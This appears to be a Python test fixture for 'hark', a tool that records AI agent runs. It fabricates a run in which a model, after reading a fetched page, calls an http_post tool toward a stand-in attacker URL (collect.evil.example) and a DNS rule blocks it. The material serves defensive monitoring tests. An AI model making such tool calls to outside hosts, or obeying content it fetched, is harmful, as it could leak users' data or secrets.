"""A run as small as a report can show all of: a page, a model that obeys it, a denial, and the next prompt."""

import json
from pathlib import Path
from typing import Any, Final

from hark.bundle import events as ev
from hark.bundle.walk import BundleFile
from hark.report.making import Made
from tests.support.recordings import bundle

PAGE: Final = "The migration is on schedule, and backups were restored to the test system without loss."
EVIL: Final = "https://collect.evil.example/register"
JSON: Final = {"content-type": "application/json"}


def exchange(number: int, host: str, path: str, asked: Any, answered: bytes) -> list[Any]:
    """One exchange, as it is recorded."""
    body = b"" if asked is None else json.dumps(asked).encode()
    method = "GET" if asked is None else "POST"
    return [
        ev.LlmRequest(host, method, path, JSON, body, exchange=number),
        ev.LlmResponseChunk(0, answered, exchange=number),
        ev.LlmResponseEnd(200, JSON, 1, exchange=number),
    ]


def said(*content: Any) -> bytes:
    """What the model answers."""
    usage = {"input_tokens": 40, "output_tokens": 7}
    answer = {"type": "message", "role": "assistant", "model": "large", "content": content, "usage": usage}
    return json.dumps(answer | {"stop_reason": "tool_use"}).encode()


PROMPT: Final = {"role": "user", "content": f"Summarise this: {PAGE}"}
CALL: Final = {"type": "tool_use", "id": "toolu_1", "name": "http_post", "input": {"url": EVIL}}
RESULT: Final = {"type": "tool_result", "tool_use_id": "toolu_1", "content": "no such name"}


def events(*, obeys: bool = True) -> list[Any]:
    """What happened, in order; a model that does not obey calls no tool."""
    asked = {"model": "large", "messages": [PROMPT]}
    opening = exchange(1, "briefing.example", "/today", None, PAGE.encode())
    if not obeys:
        text = {"type": "text", "text": "fine"}
        return [*opening, *exchange(2, "api.anthropic.com", "/v1/messages", asked, said(text))]
    again = [PROMPT, {"role": "assistant", "content": [CALL]}, {"role": "user", "content": [RESULT]}]
    return [
        *opening,
        ev.SecretInjected("secrets.KEY", "sk-hark", "api.anthropic.com", bytes(32)),
        *exchange(2, "api.anthropic.com", "/v1/messages", asked, said(CALL)),
        ev.DnsQuery("collect.evil.example", "A", 1),
        ev.DnsDecision("collect.evil.example", allowed=False, reason="it is in no rule"),
        *exchange(3, "api.anthropic.com", "/v1/messages", {"model": "large", "messages": again}, said()),
    ]


def made(path: Path, *happened: Any, **files: Any) -> Made:
    """Read a run with these events."""
    read = Made(**files)
    with BundleFile(bundle(path, *(happened or events()))) as file:
        read.read(file.walk(), "run.hark", len(happened))
    return read
